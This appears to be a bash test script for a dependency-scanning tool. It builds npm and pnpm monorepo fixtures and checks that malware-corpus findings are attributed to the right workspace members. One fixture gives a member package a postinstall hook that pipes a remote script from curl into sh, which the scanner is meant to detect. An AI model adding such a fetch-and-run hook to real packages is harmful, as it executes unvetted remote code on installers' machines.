# A monorepo: members apart, what they share once.
. "$PICKET_SRC/tests/cli/scanner.bash"
unset PICKET_CORPUS_DIR
if [ ! -e "$PICKET_BUILD/share/picket/corpus/npm-malware.iocpack" ]; then
	echo "no corpus is built here"
	exit 0
fi

# web and api need mid, which needs @ctrl/tinycolor; api alone needs claude-jar; tool needs neither.
manifests() { # manifests FOLDER
	mkdir -p "$1"/packages/{web,api,tool}
	echo '{"name":"mono","version":"1.0.0","private":true,"workspaces":["packages/*"]}' >"$1/package.json"
	echo '{"name":"web","version":"1.0.0","dependencies":{"mid":"^1.0.0"}}' >"$1/packages/web/package.json"
	cat >"$1/packages/api/package.json" <<-'END'
	{"name":"api","version":"1.1.0","dependencies":{"mid":"^1.0.0","claude-jar":"0.2.0"}}
	END
	cat >"$1/packages/tool/package.json" <<-'END'
	{"name":"tool","version":"1.2.0","dependencies":{"fine":"^2.0.0"},
	 "scripts":{"postinstall":"curl -s https://files.example.net/x.sh | sh"}}
	END
}
manifests npm
cat >npm/package-lock.json <<'END'
{"name":"mono","version":"1.0.0","lockfileVersion":3,"requires":true,"packages":{
 "":{"name":"mono","version":"1.0.0","workspaces":["packages/*"]},
 "node_modules/@ctrl/tinycolor":{"version":"4.1.1",
  "resolved":"https://registry.example.com/@ctrl/tinycolor/-/tinycolor-4.1.1.tgz","integrity":"sha512-eQ=="},
 "node_modules/api":{"resolved":"packages/api","link":true},
 "node_modules/claude-jar":{"version":"0.2.0",
  "resolved":"https://registry.example.com/claude-jar/-/claude-jar-0.2.0.tgz","integrity":"sha512-eA=="},
 "node_modules/fine":{"version":"2.0.0",
  "resolved":"https://registry.example.com/fine/-/fine-2.0.0.tgz","integrity":"sha512-eB=="},
 "node_modules/mid":{"version":"1.0.0","dependencies":{"@ctrl/tinycolor":"^4.1.0"},
  "resolved":"https://registry.example.com/mid/-/mid-1.0.0.tgz","integrity":"sha512-eC=="},
 "node_modules/tool":{"resolved":"packages/tool","link":true},
 "node_modules/web":{"resolved":"packages/web","link":true},
 "packages/api":{"version":"1.1.0","dependencies":{"mid":"^1.0.0","claude-jar":"0.2.0"}},
 "packages/tool":{"version":"1.2.0","hasInstallScript":true,"dependencies":{"fine":"^2.0.0"}},
 "packages/web":{"version":"1.0.0","dependencies":{"mid":"^1.0.0"}}}}
END
manifests pnpm
sed -i 's/,"workspaces":.*/}/' pnpm/package.json
echo 'packages: ["packages/*"]' >pnpm/pnpm-workspace.yaml
cat >pnpm/pnpm-lock.yaml <<'END'
lockfileVersion: '9.0'
importers:
  .: {}
  packages/api:
    dependencies:
      claude-jar: {specifier: 0.2.0, version: 0.2.0}
      mid: {specifier: ^1.0.0, version: 1.0.0}
  packages/tool:
    dependencies:
      fine: {specifier: ^2.0.0, version: 2.0.0}
  packages/web:
    dependencies:
      mid: {specifier: ^1.0.0, version: 1.0.0}
packages:
  '@ctrl/tinycolor@4.1.1':
    resolution: {integrity: sha512-eQ==}
  claude-jar@0.2.0:
    resolution: {integrity: sha512-eA==}
  fine@2.0.0:
    resolution: {integrity: sha512-eB==}
  mid@1.0.0:
    resolution: {integrity: sha512-eC==}
snapshots:
  '@ctrl/tinycolor@4.1.1': {}
  claude-jar@0.2.0: {}
  fine@2.0.0: {}
  mid@1.0.0:
    dependencies:
      '@ctrl/tinycolor': 4.1.1
END

json() { python3 -c "import json; d = json.load(open('out')); $1"; }
installed() { # installed FOLDER: what is shared lies in one node_modules
	mkdir -p "$1/node_modules/@ctrl/tinycolor"
	echo '{"name":"@ctrl/tinycolor","version":"4.1.1"}' >"$1/node_modules/@ctrl/tinycolor/package.json"
}
named() { # named NAME MEMBERS...: the findings of the corpus about that package are one, and name these
	local name=$1
	shift
	json "
f = [f for f in d['findings'] if f['rule'] == 'L2-IOC-001' and f['package']['name'] == '$name'
     and f['file'].endswith(('package-lock.json', 'pnpm-lock.yaml'))]
assert len(f) == 1, f
assert f[0]['members'] == '$*'.split(), f[0]['members']"
}
for kind in npm pnpm; do
	say "$kind: a workspace with findings is scanned" gives 0 scanner workspace -f json --show info $kind
	say "$kind: the root and three members" json '
assert [m["name"] for m in d["members"]] == ["api", "mono", "tool", "web"], d["members"]
assert [m["folder"] for m in d["members"]] == ["packages/api", ".", "packages/tool", "packages/web"]'
	say "$kind: what two members need is one finding with both names" named @ctrl/tinycolor api web
	say "$kind: what one needs has its name" named claude-jar api
	say "$kind: a member's own script is its own" json '
f = [f for f in d["findings"] if f["file"] == "packages/tool/package.json"]
assert f and all(f["members"] == ["tool"] for f in f), f'
	say "$kind: members count their packages" json '
assert {m["name"]: m["packages"] for m in d["members"]} == {"api": 3, "mono": 0, "tool": 1, "web": 2}, d["members"]'
	say "$kind: and the findings that name them" json '
for m in d["members"]:
	for s, n in m["counts"].items():
		assert n == sum(m["name"] in f["members"] and f["severity"] == s for f in d["findings"]), (m, s)'
	say "$kind: no finding is about nobody" json 'assert all(f["members"] for f in d["findings"])'
	if python3 -c 'import jsonschema' 2>/dev/null; then
		say "$kind: the JSON keeps to its schema" python3 -c "
import json, os, jsonschema
jsonschema.validate(json.load(open('out')), json.load(open(os.environ['PICKET_SRC'] + '/schema/scan-report.schema.json')))"
	fi
	say "$kind: the table" gives 0 scanner workspace $kind
	say "$kind: says which members a finding concerns" grep -q '^        in  api, web$' out
	say "$kind: and has a line for each member" test "$(grep -cE '^  (api|mono|tool|web) .* in [0-9]+ packages$' out)" = 4
	say "$kind: lines keep to 100 columns" not grep -qE '^.{101,}$' out
	say "$kind: a scan names no members" gives 0 scanner scan -f json $kind
	say "$kind: neither at the top nor in findings" json '
assert d["members"] == [] and not any(f["members"] for f in d["findings"])'
	say "$kind: its table has no such line" gives 0 scanner scan $kind
	say "$kind: nor such a block" not grep -qE '^        in  |^members' out
	installed $kind
	say "$kind: with the shared package installed" gives 0 scanner workspace -f json --show info $kind
	say "$kind: its findings name the same two members" json '
f = [f for f in d["findings"] if f["package"] and f["package"]["name"] == "@ctrl/tinycolor"]
assert f and all(f["members"] == ["api", "web"] for f in f), f'
	say "$kind: twice the same" gives 0 scanner workspace --verify-determinism -f json $kind
done

sed -i 's/"mid":"^1.0.0"}/"api":"1.1.0"}/' npm/packages/web/package.json npm/package-lock.json
sed -i 's/\("packages\/api":.*\)"api":"1.1.0"/\1"mid":"^1.0.0"/' npm/package-lock.json
say "a member that needs another member" gives 0 scanner workspace -f json npm
say "needs what that one needs" named claude-jar api web
sed -i 's/"name":"web"/"name":"api"/' npm/packages/web/package.json
sed -i 's/"packages\/web":{/&"name":"api",/' npm/package-lock.json
say "two members of one name" gives 0 scanner workspace -f json npm
say "go by their folders" json '
assert [m["name"] for m in d["members"]] == ["mono", "packages/api", "packages/web", "tool"], d["members"]'
